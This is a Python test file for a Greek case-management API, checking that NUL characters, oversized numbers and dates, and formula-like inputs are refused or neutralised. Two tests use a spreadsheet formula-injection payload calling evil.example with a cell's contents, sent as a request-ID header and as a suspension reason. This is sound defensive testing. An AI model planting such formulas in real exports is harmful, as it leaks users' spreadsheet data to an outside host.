"""Input that used to make the API answer 500 (found by Schemathesis and by hand) is refused with 422 and changes
nothing; what a client sends as its request id reaches the audit only when it is a plain token."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable
from typing import Any

import asyncpg
import httpx

from tests.conftest import OfficeFactory
from tests.helpers import bearer
from tests.serve.test_cases_http import body


async def test_a_nul_character_is_refused_and_nothing_is_written(
    ray_app: dict[str, Any],
    http: httpx.AsyncClient,
    make_office: OfficeFactory,
    make_procedure: Callable[..., Any],
    pool: asyncpg.Pool[asyncpg.Record],
    token_for: Callable[..., str],
) -> None:
    office = await make_office()
    headers = bearer(token_for(office))
    procedure = await make_procedure()
    citizen = body(procedure)["citizen"] | {"last_name": "Παπα\x00δάκη"}

    answers = {
        "text": await http.post("/api/cases", json=body(procedure, citizen=citizen), headers=headers),
        "json": await http.post("/api/cases", json=body(procedure, form_data={"purpose": "a\x00b"}), headers=headers),
        "query": await http.get("/api/cases", params={"q": "Πα\x00πα"}, headers=headers),
    }

    for name, resp in answers.items():
        assert resp.status_code == 422, (name, resp.text)
        assert "NUL" in resp.json()["detail"], name
    assert await pool.fetchval("SELECT count(*) FROM cases WHERE office_id = $1", office) == 0
    # in a JSON body the refusal comes before any handler works on it, and points at each such string or key
    assert [e["path"] for e in answers["text"].json()["errors"]] == ["/citizen/last_name"]
    assert [e["path"] for e in answers["json"].json()["errors"]] == ["/form_data/purpose"]
    admin = bearer(token_for(uuid.uuid4(), roles=("administrator",)))
    news = await http.post("/api/news", json={"title_el": "a\x00b", "body_el": "x", "k\x00/y": "z"}, headers=admin)
    assert news.status_code == 422, news.text
    assert news.headers["content-type"].startswith("application/problem+json")
    assert {e["path"] for e in news.json()["errors"]} == {"/title_el", "/k\x00~1y"}
    # a backslash followed by `u0000` is plain text, and no NUL
    plain = body(procedure, form_data={"purpose": "C:\\u0000"})
    assert (await http.post("/api/cases", json=plain, headers=headers)).status_code == 201
    # in a query string, likewise, pointing at the parameter
    assert [e["path"] for e in answers["query"].json()["errors"]] == ["/q"]


async def test_numbers_and_dates_past_what_is_stored_are_422(
    ray_app: dict[str, Any],
    http: httpx.AsyncClient,
    make_office: OfficeFactory,
    make_procedure: Callable[..., Any],
    token_for: Callable[..., str],
) -> None:
    headers = bearer(token_for(await make_office()))
    admin = bearer(token_for(uuid.uuid4(), roles=("administrator",)))
    case = (await http.post("/api/cases", json=body(await make_procedure()), headers=headers)).json()

    answers = {
        "created_to": await http.get("/api/cases", params={"created_to": "9999-12-31"}, headers=headers),
        "form version": await http.get("/api/forms/any-form", params={"version": 2**31}, headers=headers),
        "case version": await http.post(f"/api/cases/{case['id']}/start", json={"version": 2**31}, headers=headers),
        "page": await http.get("/api/admin/procedures", params={"page": 2**40}, headers=admin),
    }

    for name, resp in answers.items():
        assert resp.status_code == 422, (name, resp.text)
        assert resp.json()["errors"], name


async def test_a_request_id_that_is_not_a_plain_token_never_reaches_the_audit(
    ray_app: dict[str, Any],
    http: httpx.AsyncClient,
    make_office: OfficeFactory,
    make_procedure: Callable[..., Any],
    pool: asyncpg.Pool[asyncpg.Record],
    token_for: Callable[..., str],
) -> None:
    headers = bearer(token_for(await make_office()))
    procedure = await make_procedure()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'

    plain = await http.post("/api/cases", json=body(procedure), headers=headers | {"X-Request-ID": "trace-42.a:b"})
    formula = await http.post("/api/cases", json=body(procedure), headers=headers | {"X-Request-ID": hostile})

    audited = {
        r["case_id"]: r["request_id"]
        for r in await pool.fetch(
            "SELECT case_id, request_id FROM case_events WHERE case_id = ANY($1::uuid[]) AND type = 'case.opened'",
            [uuid.UUID(plain.json()["id"]), uuid.UUID(formula.json()["id"])],
        )
    }
    assert audited[uuid.UUID(plain.json()["id"])] == "trace-42.a:b"
    assert audited[uuid.UUID(formula.json()["id"])] != hostile
    assert "HYPERLINK" not in audited[uuid.UUID(formula.json()["id"])]


async def test_a_csv_cell_that_starts_like_a_formula_is_written_as_text(
    ray_app: dict[str, Any],
    http: httpx.AsyncClient,
    make_office: OfficeFactory,
    make_procedure: Callable[..., Any],
    token_for: Callable[..., str],
) -> None:
    headers = bearer(token_for(await make_office()))
    case = (await http.post("/api/cases", json=body(await make_procedure()), headers=headers)).json()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"λείπει")'
    suspended = await http.post(
        f"/api/cases/{case['id']}/suspend", json={"version": case["version"], "reason": formula}, headers=headers
    )
    assert suspended.status_code == 200, suspended.text

    exported = await http.get(f"/api/cases/{case['id']}/timeline.csv", headers=headers)

    rows = list(csv.DictReader(io.StringIO(exported.text)))
    [row] = [r for r in rows if r["type"] == "case.suspended"]
    assert row["reason"] == "'" + formula  # a spreadsheet shows it, never evaluates it
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
